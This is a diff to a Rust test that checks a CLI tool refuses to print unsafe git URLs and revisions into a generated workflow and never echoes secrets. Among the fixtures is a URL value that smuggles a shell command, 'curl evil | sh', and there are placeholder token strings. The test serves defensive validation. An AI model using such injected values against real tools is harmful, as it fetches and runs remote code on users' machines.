@@ -197,7 +197,10 @@ fn the_book_shows_the_printed_workflow() {
 
 #[test]
 fn values_that_cannot_be_printed_into_the_workflow_are_refused_unquoted() {
-    let bad: [&[&str]; 7] = [
+    let bad: [&[&str]; 10] = [
+        &["--from-git", "https://ghp_s3cr3t@github.com/org/repo"],
+        &["--from-git", "https://example.com/repo:"],
+        &["--from-git", URL, "--rev", "v1:"],
         &["--from-git", "https://example.com/a b"],
         &["--from-git", "https://example.com/x'; curl evil | sh; '"],
         &["--from-git", "https://user:s3cr3t-token@example.com/repo"],
@@ -215,8 +218,8 @@ fn values_that_cannot_be_printed_into_the_workflow_are_refused_unquoted() {
         assert!(value.is_empty() || !stderr.contains(value), "{options:?} quoted: {stderr}");
         assert!(!stderr.contains("s3cr3t"), "{stderr}");
     }
-    // A URL with a user name and no password is fine (ssh and https).
-    for url in ["git@github.com:org/repo.git", "https://git@example.com/org/repo"] {
+    // An ssh URL with a user name and no password is fine.
+    for url in ["git@github.com:org/repo.git", "ssh://git@example.com/org/repo"] {
         assert!(printed(&["--from-git", url]).contains(&format!("--git {url}\n")), "{url}");
     }
     // --rev needs --from-git; --from-git and --from-path exclude each other.
